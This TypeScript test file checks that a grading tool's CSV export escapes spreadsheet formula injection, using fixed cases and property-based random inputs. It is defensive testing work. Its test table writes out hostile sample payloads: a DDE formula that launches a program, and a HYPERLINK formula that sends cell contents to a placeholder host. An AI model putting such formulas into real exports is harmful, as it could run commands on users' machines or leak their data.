import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, parseCsv } from '../../../src/course/grade/csv';
import { asText, fromText } from '../../../src/course/grade/spreadsheet-text';

/** Where a cell begins for a spreadsheet that takes any of these for a separator and knows of no quotes. */
const cellsOf = (line: string): string[] => line.split(/[,;\t\r\n]/);

/** What OWASP's "CSV Injection" lists: = + - @ and their wide forms, quotes before them or not. */
const isFormula = (cell: string): boolean =>
  /^"*[=+\-@＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);

const hostile = fc.string({
  unit: fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '＝',
    "'",
    '"',
    ',',
    ';',
    '\t',
    '\r',
    '\n',
    ' ',
    '1',
    'a',
    '.',
    'e',
  ),
});

describe('a field that a spreadsheet reads', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    [' =1', "' =1"],
    ['＝1', "'＝1"],
    ["'=1", "''=1"],
    ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
    ['x;"=1;y', 'x;\'"=1;y'],
  ])('begins no formula: %j', (text, field) => {
    expect(asText(text)).toBe(field);
    expect(fromText(field)).toBe(text);
  });

  it.each([
    '-1',
    '+1.5',
    '-1e5',
    '2.0',
    'ada',
    "O'Neill",
    "'s-Gravenhage",
    'a-b',
    'x = 1',
    '',
    'ada@example.org',
  ])('stays as it is where it is a number or harmless: %j', (text) => {
    expect(asText(text)).toBe(text);
    expect(fromText(text)).toBe(text);
  });

  it('begins none whatever the text is, and can be read back', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const field = asText(text);
        expect(fromText(field)).toBe(text);
        // Tabs and line ends at its beginning some spreadsheets pass over.
        expect(isFormula(field.trimStart())).toBe(false);
        for (const cell of cellsOf(field)) expect(isFormula(cell)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('a file of such fields', () => {
  it('gives back what was written', () => {
    const row = fc.array(hostile, { minLength: 2, maxLength: 4 });
    fc.assert(
      fc.property(row, fc.constantFrom(',', ';', '\t'), (fields, separator) => {
        fc.pre(fields.some((text) => text.trim() !== ''));
        const header = ['a', 'b', 'c', 'd'].join(separator);
        const [, read] = parseCsv(`${header}\n${csvLine(fields, separator)}\n`).rows;
        expect(read?.fields).toEqual(fields);
      }),
      { numRuns: 1000 },
    );
  });

  it('has the numbers of the grader as numbers', () => {
    expect(csvLine(['=x', -1.5, 3])).toBe("'=x,-1.5,3");
  });
});
